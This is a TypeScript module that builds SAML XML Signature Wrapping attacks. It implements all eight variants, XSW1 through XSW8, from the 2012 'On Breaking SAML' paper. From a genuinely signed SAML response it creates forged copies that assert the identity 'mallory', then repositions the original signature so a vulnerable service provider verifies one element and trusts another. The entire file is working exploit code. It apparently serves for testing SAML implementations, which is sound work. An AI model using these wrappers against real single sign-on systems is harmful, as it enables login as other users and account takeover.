import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const saml = 'urn:oasis:names:tc:SAML:2.0:assertion';
const samlp = 'urn:oasis:names:tc:SAML:2.0:protocol';
const dsig = 'http://www.w3.org/2000/09/xmldsig#';

/** A response taken apart, and the same one as an attacker would like it. */
type Parts = {
  document: Document;
  response: Element;
  assertion: Element;
  /** Copies that nobody signed, about somebody else. */
  evilResponse: Element;
  evilAssertion: Element;
};

const one = (parent: Element, namespace: string, name: string): Element => {
  const found = parent.getElementsByTagNameNS(namespace, name)[0];
  if (!found) throw new Error(`There is no ${name}`);
  return found;
};

const signatureOf = (owner: Element): Element => {
  const found = Array.from(owner.childNodes).find(
    (node) => (node as Element).localName === 'Signature',
  );
  if (!found) throw new Error('It is not signed');
  return found as Element;
};

const withoutSignatures = (element: Element): Element => {
  const copy = element.cloneNode(true) as Element;
  for (const signature of Array.from(copy.getElementsByTagNameNS(dsig, 'Signature'))) {
    signature.parentNode?.removeChild(signature);
  }
  return copy;
};

function evil(element: Element, id: string): Element {
  const copy = withoutSignatures(element);
  copy.setAttribute('ID', id);
  one(copy, saml, 'NameID').textContent = 'mallory';
  return copy;
}

function replaced({ document, response }: Parts, by: Element): void {
  document.replaceChild(by, response);
}

/** `Object`, where a signature may carry anything it likes (XML signature §4.5). */
function carried({ document }: Parts, element: Element): Element {
  const object = document.createElementNS(dsig, 'ds:Object');
  object.appendChild(element);
  return object;
}

type Variant = (parts: Parts) => void;

/** "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky and others, 2012), by its usual numbers. */
export const variants: { name: string; signed: 'response' | 'assertion'; wrap: Variant }[] = [
  {
    name: 'XSW1: the response that was signed, inside the signature of a forged one',
    signed: 'response',
    wrap(parts) {
      const signature = signatureOf(parts.response).cloneNode(true) as Element;
      signature.appendChild(withoutSignatures(parts.response));
      parts.evilResponse.insertBefore(signature, parts.evilResponse.childNodes[1] ?? null);
      replaced(parts, parts.evilResponse);
    },
  },
  {
    name: 'XSW2: the response that was signed, before the signature of a forged one',
    signed: 'response',
    wrap(parts) {
      const signature = signatureOf(parts.response).cloneNode(true) as Element;
      const original = withoutSignatures(parts.response);
      parts.evilResponse.insertBefore(signature, parts.evilResponse.childNodes[1] ?? null);
      parts.evilResponse.insertBefore(original, signature);
      replaced(parts, parts.evilResponse);
    },
  },
  {
    name: 'XSW3: a forged assertion before the one that was signed',
    signed: 'assertion',
    wrap({ response, assertion, evilAssertion }) {
      response.insertBefore(evilAssertion, assertion);
    },
  },
  {
    name: 'XSW4: the assertion that was signed, inside a forged one',
    signed: 'assertion',
    wrap({ response, assertion, evilAssertion }) {
      response.replaceChild(evilAssertion, assertion);
      evilAssertion.appendChild(assertion);
    },
  },
  {
    name: 'XSW5: a forged assertion with the signature, the one that was signed after it',
    signed: 'assertion',
    wrap({ response, assertion, evilAssertion }) {
      const signature = signatureOf(assertion);
      evilAssertion.insertBefore(signature.cloneNode(true), evilAssertion.childNodes[1] ?? null);
      response.replaceChild(evilAssertion, assertion);
      response.appendChild(withoutSignatures(assertion));
    },
  },
  {
    name: 'XSW6: a forged assertion with the signature, the one that was signed inside that',
    signed: 'assertion',
    wrap({ response, assertion, evilAssertion }) {
      const signature = signatureOf(assertion).cloneNode(true) as Element;
      signature.appendChild(withoutSignatures(assertion));
      evilAssertion.insertBefore(signature, evilAssertion.childNodes[1] ?? null);
      response.replaceChild(evilAssertion, assertion);
    },
  },
  {
    name: 'XSW7: a forged assertion of the same id, in extensions',
    signed: 'assertion',
    wrap({ document, response, assertion, evilAssertion }) {
      const extensions = document.createElementNS(samlp, 'samlp:Extensions');
      evilAssertion.setAttribute('ID', assertion.getAttribute('ID') ?? '');
      extensions.appendChild(evilAssertion);
      response.insertBefore(extensions, assertion);
    },
  },
  {
    name: 'XSW8: the assertion that was signed, as an object of the signature of a forged one',
    signed: 'assertion',
    wrap(parts) {
      const { response, assertion, evilAssertion } = parts;
      const signature = signatureOf(assertion).cloneNode(true) as Element;
      evilAssertion.setAttribute('ID', assertion.getAttribute('ID') ?? '');
      signature.appendChild(carried(parts, withoutSignatures(assertion)));
      evilAssertion.insertBefore(signature, evilAssertion.childNodes[1] ?? null);
      response.replaceChild(evilAssertion, assertion);
    },
  },
];

/** Does that to a document. */
export function wrapped(xml: string, wrap: Variant): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  const assertion = one(response, saml, 'Assertion');
  wrap({
    document,
    response,
    assertion,
    evilResponse: evil(response, '_evil-response'),
    evilAssertion: evil(assertion, '_evil-assertion'),
  });
  return new XMLSerializer().serializeToString(document);
}
